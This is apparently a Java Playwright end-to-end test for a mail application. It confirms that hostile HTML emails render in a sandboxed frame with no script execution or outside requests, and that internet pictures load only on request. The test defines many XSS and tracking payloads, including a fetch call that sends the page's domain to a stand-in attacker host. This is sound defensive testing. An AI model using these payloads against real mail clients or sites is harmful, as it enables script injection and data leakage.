package org.postbag.e2e;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.AriaRole;
import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.postbag.PostbagTest;
import org.postbag.TestOffices;
import org.postbag.TestOffices.TestOffice;
import org.postbag.correspondence.inbox.MailDrop;
import org.postbag.offices.Role;
import org.springframework.beans.factory.BeanFactory;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

/**
 * Pages that came by mail and mean harm, shown as they were sent: none runs a script or makes a request (law.md EM-11). Pictures from
 * the internet come when somebody asks for them, and then without a word about where they are looked at.
 */
@PostbagTest
class HostileMailIT {

    private static final String GO = "fetch('https://harm.example/' + document.domain)";
    private static final String PICTURE =
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

    /** Each mail its own kind of harm, so that none is hidden by what stands before it. */
    private static final List<String> PAGES = List.of(
            "<script>" + GO + "</script><script src=https://harm.example/1.js></script><img src=x onerror=\"" + GO
                    + "\"><body onload=\"" + GO + "\"><svg onload=\"" + GO + "\"><svg><script>" + GO + "</script></svg>"
                    + "<math><mtext><table><mglyph><style><img src=x onerror=\"" + GO + "\"></style></table></math>",
            "<style>@import 'https://harm.example/2.css';body{background:url(https://harm.example/2.png)}</style>"
                    + "<link rel=stylesheet href=https://harm.example/3.css><link rel=prefetch href=https://harm.example/4>"
                    + "<div style=\"background-image:url('https://harm.example/5.png')\">x</div>"
                    + "<table background=https://harm.example/6.png><tr><td>x</td></tr></table>",
            "<img src=https://harm.example/7.png><img srcset='https://harm.example/8.png 2x'><picture><source"
                    + " srcset=https://harm.example/9.png><img src=//harm.example/10.png></picture><video autoplay"
                    + " src=https://harm.example/11.mp4 poster=https://harm.example/12.png></video><audio autoplay"
                    + " src=https://harm.example/13.mp3></audio><input type=image src=https://harm.example/14.png>",
            "<iframe src=https://harm.example/15></iframe><iframe srcdoc=\"<script>" + GO.replace('"', '\'')
                    + "</script>\"></iframe><object data=https://harm.example/16></object><embed src=https://harm.example/17>"
                    + "<frameset><frame src=https://harm.example/18></frameset><portal src=https://harm.example/19></portal>",
            "<meta http-equiv=refresh content='0;url=https://harm.example/20'><base href=https://harm.example/><img src=21.png>"
                    + "<form id=f action=https://harm.example/22><button autofocus onfocus=\"this.form.submit()\">x</button></form>"
                    + "<a href=\"javascript:" + GO
                    + "\">x</a><a ping=https://harm.example/23 href=https://harm.example/24>y</a>",
            "--></title></textarea></noscript><!--<img src=\"--><img src=x onerror="
                    + GO.replace("'", "`").replace(" ", "")
                    + ">\"><noscript><p title=\"</noscript><img src=x onerror='" + GO.replace('\'', '"')
                    + "'>\"></noscript>"
                    + "<img alt=\"`><img src=https://harm.example/25.png>\"><img src=\"data:image/svg+xml,<svg onload='"
                    + "alert(1)'>\"><img src=\" https://harm.example/26.png\"><img src=\"htt&#x70;s://harm.example/27.png\">");

    private static final Pattern STOPPED = Pattern.compile("^(Loading|Refused|Blocked|Applying|Executing)\\b");

    @LocalServerPort
    private int port;

    @Autowired
    private BeanFactory application;

    @Autowired
    private TestOffices offices;

    private final List<String> complaints = new ArrayList<>();
    private final List<String> requests = new CopyOnWriteArrayList<>();
    private HttpServer elsewhere;

    /** A server of somebody else's: Playwright does not see what a frame like this asks for. */
    @BeforeEach
    void listen() throws IOException {
        elsewhere = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        elsewhere.createContext("/", this::answer);
        elsewhere.start();
    }

    @AfterEach
    void close() {
        elsewhere.stop(0);
    }

    private void answer(HttpExchange exchange) throws IOException {
        requests.add(exchange.getRequestURI().getPath() + " from "
                + exchange.getRequestHeaders().getFirst("Referer"));
        byte[] picture = Base64.getDecoder().decode(PICTURE);
        exchange.getResponseHeaders().set("Content-Type", "image/png");
        exchange.sendResponseHeaders(200, picture.length);
        exchange.getResponseBody().write(picture);
        exchange.close();
    }

    private String there(String page) {
        String host = "127.0.0.1:" + elsewhere.getAddress().getPort();
        return page.replaceAll("(https|htt&#x70;s)://(harm|pictures)\\.example", "http://" + host)
                .replace("//harm.example", "//" + host);
    }

    @Test
    void runsNoScriptAndMakesNoRequest() {
        TestOffice office = offices.open();
        try (Chromium chromium = new Chromium(address())) {
            Page staff = signedIn(chromium, office);
            for (String page : PAGES) {
                read(staff, drop(office, "text/html; charset=utf-8\r\n\r\n" + there(page) + "<p>The end of it</p>"));
                button(staff, "Show as sent").click();
                assertThat(staff.frameLocator(".pb-sent-page").getByText("The end of it"))
                        .isVisible();
                assertThat(staff.locator(".pb-sent-page")).hasAttribute("sandbox", "");
            }
            assertThat(chromium.requestsElsewhere()).isEmpty();
            assertThat(requests).isEmpty();
            assertThat(staff.context().pages()).hasSize(1);
        }
        assertThat(complaints).isEmpty();
    }

    @Test
    void picturesOfTheMailAreShown_andThoseFromTheInternetWhenAskedFor() {
        TestOffice office = offices.open();
        try (Chromium chromium = new Chromium(address())) {
            Page staff = signedIn(chromium, office);
            read(staff, drop(office, there(withPictures())));

            button(staff, "Show as sent").click();
            Locator inline = staff.frameLocator(".pb-sent-page").getByAltText("Our street");
            assertThat(inline).hasJSProperty("naturalWidth", 1);
            assertThat(staff.frameLocator(".pb-sent-page").getByText("[bank.example]"))
                    .isVisible();
            assertThat(requests).isEmpty();

            button(staff, "Show pictures from the internet").click();
            assertThat(staff.frameLocator(".pb-sent-page").getByAltText("A map"))
                    .hasJSProperty("naturalWidth", 1);
            assertThat(requests).containsExactly("/map.png from null");
        }
    }

    private static String withPictures() {
        return "multipart/related; boundary=r\r\n\r\n--r\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
                + "<p>Look at <img alt='Our street' src='cid:street@mailbox.example'> and <img alt='A map'"
                + " src=https://pictures.example/map.png>, or <a href=https://bank.example/account>here</a>.</p>\r\n"
                + "--r\r\nContent-Type: image/png; name=street.png\r\nContent-ID: <street@mailbox.example>\r\n"
                + "Content-Disposition: inline\r\nContent-Transfer-Encoding: base64\r\n\r\n" + PICTURE + "\r\n--r--";
    }

    private Page signedIn(Chromium chromium, TestOffice office) {
        Page staff = chromium.signedIn(office.staff(Role.CASEWORKER).email(), TestOffices.PASSWORD);
        staff.onConsoleMessage(message -> {
            // The frame has to stop nothing: nothing is left that it could stop.
            if (STOPPED.matcher(message.text()).find()) {
                complaints.add(message.text());
            }
        });
        return staff;
    }

    private void read(Page staff, UUID message) {
        staff.navigate(address() + "/staff/messages?message=" + message);
    }

    private UUID drop(TestOffice office, String content) {
        return MailDrop.drop(
                        application,
                        office,
                        "From: Edda Lindqvist <edda@mailbox.example>\r\nTo: "
                                + office.office().email() + "\r\nSubject: Look " + UUID.randomUUID()
                                + "\r\nMIME-Version: 1.0\r\nContent-Type: " + content + "\r\n")
                .orElseThrow();
    }

    private static Locator button(Page page, String name) {
        return page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName(name));
    }

    private String address() {
        return "http://127.0.0.1:" + port;
    }
}
